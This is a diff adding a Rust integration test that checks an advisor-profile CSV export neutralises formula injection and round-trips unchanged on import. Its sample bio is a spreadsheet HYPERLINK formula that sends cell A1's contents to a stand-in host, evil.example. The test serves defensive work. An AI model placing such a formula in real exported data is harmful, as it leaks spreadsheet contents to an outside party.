@@ -247,3 +247,62 @@ async fn reliability_guessing_the_current_password_of_a_password_change_is_throt
         .expect("json");
     assert_eq!(audit["total"], 7, "{audit}");
 }
+
+#[tokio::test]
+async fn a_bio_that_looks_like_a_formula_reaches_excel_as_text_and_imports_back_unchanged() {
+    let app = bank(crate::helpers::Backend::Sqlite).await;
+    let admin = app.signed_in("nara-admin@renkei.example").await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
+    let edited = admin
+        .patch(app.url("/api/advisors/1"))
+        .json(&serde_json::json!({ "bio": formula, "contact_phone": "+81-742-11-2222" }))
+        .send()
+        .await
+        .expect("edit");
+    assert_eq!(edited.status(), 200);
+    let csv = admin
+        .get(app.url("/api/advisors/export.csv"))
+        .send()
+        .await
+        .expect("export")
+        .bytes()
+        .await
+        .expect("bytes");
+    let text = std::str::from_utf8(&csv).expect("utf-8");
+    assert!(text.starts_with('\u{feff}'), "BOM");
+    assert!(text.contains("\r\n"), "CRLF");
+    let mut reader =
+        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| {
+            r.expect("record")
+                .iter()
+                .map(str::to_owned)
+                .collect::<Vec<_>>()
+        })
+        .collect();
+    assert!(
+        cells
+            .iter()
+            .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+        "no cell starts a formula"
+    );
+    assert!(cells.iter().any(|c| c == &format!("'{formula}")));
+
+    let imported = admin
+        .post(app.url("/api/advisors/import"))
+        .header("content-type", "text/csv")
+        .body(csv.to_vec())
+        .send()
+        .await
+        .expect("import");
+    assert_eq!(imported.status(), 200);
+    let report: serde_json::Value = imported.json().await.expect("json");
+    assert_eq!(
+        report["updated"], 0,
+        "a round trip changes nothing: {report}"
+    );
+    let (_, profile) = app.get_json("/api/advisors/1").await;
+    assert_eq!(profile["bio"], formula);
+}
